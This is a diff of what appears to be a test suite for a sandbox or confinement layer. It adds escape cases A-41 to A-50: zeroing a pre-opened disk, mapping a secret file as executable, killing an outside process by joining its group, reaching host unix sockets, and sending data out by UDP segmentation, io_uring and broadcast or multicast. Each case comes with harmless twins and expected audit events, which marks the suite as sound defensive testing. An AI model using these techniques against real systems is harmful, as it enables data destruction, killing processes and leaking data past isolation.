@@ -517,6 +517,107 @@ for number, path, mode in ((32, "/dev/net/tun", os.O_RDWR), (33, "/dev/fuse", os
     attack(f"A-{number}", path, lambda a, p=path, m=mode: os.open(p, m) and "done", prep=device_prep, effect=done, twin=lambda a: os.close(os.open("/dev/null", os.O_RDWR)),
            lacking=(errno.ENOENT,), events=[ev("open_write", "files.device", path=path)])
 
+# --- what was held before an attach, mappings, groups of processes, sockets by other names -------------------------------
+
+
+def zeroed(arena, a, r):
+    fd = os.open(f"{a.HELD}/dev-loop", os.O_RDONLY)
+    try:
+        return os.pread(fd, 4, 0) == bytes(4)
+    finally:
+        os.close(fd)
+
+
+def implied_exec(path):
+    """personality(READ_IMPLIES_EXEC): what is mapped for reading is mapped as code."""
+    def do(a):
+        libc.personality(0x400000)
+        libc.mmap.restype = ctypes.c_void_p
+        address = libc.mmap(None, 4096, 1, 2, os.open(a.fill(path), os.O_RDONLY), 0)
+        if address == 2**64 - 1:
+            raise OSError(ctypes.get_errno(), "mmap")
+        with open("/proc/self/maps") as f:
+            return next(line.split()[1] for line in f if int(line.split("-")[0], 16) <= address < int(line.split()[0].split("-")[1], 16))
+    return do
+
+
+def join_group(a):
+    """Into the process group of somebody outside; then a signal to one's own."""
+    os.setpgid(0, os.getpgid(int(a.VICTIM)))
+    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+    os.kill(0, signal.SIGTERM)
+
+
+def victim_prep(arena, a):
+    arena.new_victim()
+    a.values["VICTIM"] = str(arena.victim.pid)
+
+
+def by_descriptor(a):
+    return f"/proc/self/fd/{os.open(a.HOSTDIR + '/stream', os.O_PATH)}"
+
+
+def by_link(a):
+    os.symlink(a.HOSTDIR + "/stream", a.wd + "/link")
+    return a.wd + "/link"
+
+
+def unix_by(name):
+    def do(a):
+        s = socket.socket(AF_UNIX, SOCK_STREAM)
+        s.connect(name(a))
+        s.send(a.token.encode())
+    return do
+
+
+def segments(a):
+    """UDP_SEGMENT: several datagrams by one call, elsewhere than the socket is connected to."""
+    s = make(AF_INET, SOCK_DGRAM)
+    s.connect((a.GW, DG))
+    s.setsockopt(17, 103, 100)
+    s.sendto((a.token * 20).encode()[:300], (a.X, DG))
+
+
+def send_zc(a):
+    """IORING_OP_SEND_ZC with an address."""
+    s = make(AF_INET, SOCK_DGRAM)
+    to = ctypes.create_string_buffer(struct.pack("=H", AF_INET) + struct.pack("!H", DG) + socket.inet_aton(a.X) + bytes(8), 16)
+    ring.Ring(4).do(47, fd=s.fileno(), addr=ctypes.create_string_buffer(a.token.encode(), len(a.token)), length=len(a.token), off=to, file_index=16)
+
+
+def everybody(to):
+    def do(a):
+        s = make(AF_INET6 if ":" in to else AF_INET, SOCK_DGRAM)
+        if ":" in to:
+            s.sendto(a.token.encode(), (to, DG, 0, socket.if_nametoindex(a.IF)))
+            return
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+        s.setsockopt(0, 32, socket.inet_aton(a.HOST))  # IP_MULTICAST_IF
+        s.sendto(a.token.encode(), (to, DG))
+    return do
+
+
+def to_all(arena, a, r):
+    arena.sniff()
+    return any(a.token.encode() in frame for frame in arena.frames)
+
+
+UNIX = {"effect": received, "twin": GATEWAY, "events": [ev("connect", "network.unix", unix="{HOSTDIR}/stream")]}
+OUT = {"twin": GATEWAY_UDP, "events": [ev("sendmsg", "network.default", dport=DG, count=range(1, 3))]}
+attack("A-41", "BLKZEROOUT on a disk that was open before attach", lambda a: syscall(16, inside.held["dev-loop"], 0x127f, struct.pack("=QQ", 0, 4096)) and None,
+       effect=zeroed, twin=lambda a: os.fsync(inside.held["dev-loop"]), fence="attached", held=("dev-loop",), hooks=["file_ioctl"],
+       events=[ev("ioctl", "files.device", path="{HELD}/dev-loop")])
+attack("A-42", "a mapping for reading that READ_IMPLIES_EXEC makes code", implied_exec("{SECRET}/tool"), errnos=(errno.EACCES,), twin=implied_exec("{wd}/f"),
+       effect=lambda arena, a, r: "x" in (r["data"] or ""), events=[ev("mmap", "files.exec.deny", path="{SECRET}/tool")])
+attack("A-43", "a signal to a process group that one joined", join_group, prep=victim_prep, effect=lambda arena, a, r: arena.victim_dead(), errnos=(None,),
+       twin=lambda a: os.setpgid(0, 0), events=[ev("signal", "guard.signal", guard__target_pid="{VICTIM}")])
+attack("A-44", "a unix socket of the host by an O_PATH descriptor", unix_by(by_descriptor), **UNIX)
+attack("A-45", "a unix socket of the host by a link in the workdir", unix_by(by_link), **UNIX)
+attack("A-46", "UDP_SEGMENT elsewhere", segments, effect=received, **OUT)
+attack("A-47", "IORING_OP_SEND_ZC with an address", send_zc, effect=received, lacking=(errno.EINVAL,), **OUT)
+for number, to in ((48, "10.99.0.255"), (49, "239.1.1.1"), (50, "ff02::1")):
+    attack(f"A-{number}", f"a datagram to everybody at {to}", everybody(to), effect=to_all, **OUT)
+
 # --- what is known, and chosen ------------------------------------------------------------------------------------------
 
 
